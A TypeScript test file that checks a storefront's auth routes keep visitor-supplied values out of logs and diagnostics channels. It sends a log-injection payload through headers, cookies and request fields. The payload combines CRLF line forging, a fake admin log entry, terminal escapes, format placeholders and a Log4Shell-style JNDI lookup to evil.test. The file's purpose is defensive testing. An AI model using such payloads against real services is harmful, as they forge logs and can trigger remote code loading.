import assert from 'node:assert/strict'
import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import type { Logger } from '../../src/index.ts'
import { channels } from '../support/channels.ts'
import { storefronts } from '../support/storefront.ts'

/** Lines, colours and placeholders of one logger or another. */
const planted = 'planted\r\nlevel=error userId=admin \u001b[2K\u2028 %s %o {{x}} $' + '{jndi:ldap://evil.test}'

describe('what a visitor writes to plant lines in a log', () => {
  const open = storefronts()
  const lines: string[] = []
  const note = (from: string) => (message: unknown, more: unknown) =>
    void lines.push(JSON.stringify([from, message, more]))
  const listen = note('channel')
  const logger: Logger = { debug: note('debug'), info: note('info'), warn: note('warn'), error: note('error') }

  before(() => {
    for (const channel of channels) subscribe(channel, listen)
  })
  after(() => {
    for (const channel of channels) unsubscribe(channel, listen)
  })

  it('is in none of them, nor in what is published: names, codes, addresses, fields, headers and cookies', async () => {
    const shop = await open({
      options: { logger },
      prepare: (app) => app.set('trust proxy', true),
      routes: { rateLimit: { perLogin: 1 } },
    })
    const header = planted.replaceAll(/[^\x20-\x7e]/g, ' ')
    const headers = {
      ...Object.fromEntries(
        ['user-agent', 'referer', 'x-forwarded-for', 'x-forwarded-host'].map((name) => [name, header]),
      ),
      cookie: `kibo_shopper=${encodeURIComponent(planted)}; kibo_shopper_2fa=${encodeURIComponent(planted)}`,
    }
    const address = `${planted.replaceAll(/[\s@]/g, '')}@example.com`
    const bodies: [path: string, body: Record<string, unknown>][] = [
      ['login', { username: planted, password: planted, fingerprint: planted, region: planted, [planted]: planted }],
      ['login', { username: 5, [planted]: planted }],
      ['signup', { emailAddress: address, userName: planted, password: planted, firstName: planted }],
      ['two-factor/verify', { code: planted.slice(0, 60) }],
      ['otp/verify', { emailAddress: address, code: planted.slice(0, 60) }],
      ['password/forgot', { emailAddress: address, userName: planted }],
      ['password/reset', { userName: planted, confirmationCode: planted, newPassword: planted }],
      ['logout', { returnTo: planted }],
    ]
    const postAll = async () => {
      for (const [path, body] of [...bodies, ...bodies.slice(0, 1)])
        await shop.browser().post(`/auth/${path}`, body, headers)
    }

    await postAll()
    shop.sandbox.fail({ kind: 'html', status: 503, times: 100 })
    await postAll()

    assert.ok(lines.some((line) => line.includes('"refused"')) && lines.some((line) => line.includes('"failed"')))
    for (const line of lines) assert.doesNotMatch(line, /planted|jndi|admin|evil\.test|\\u001b|\\u2028|[\r\n]/i)
  })
})
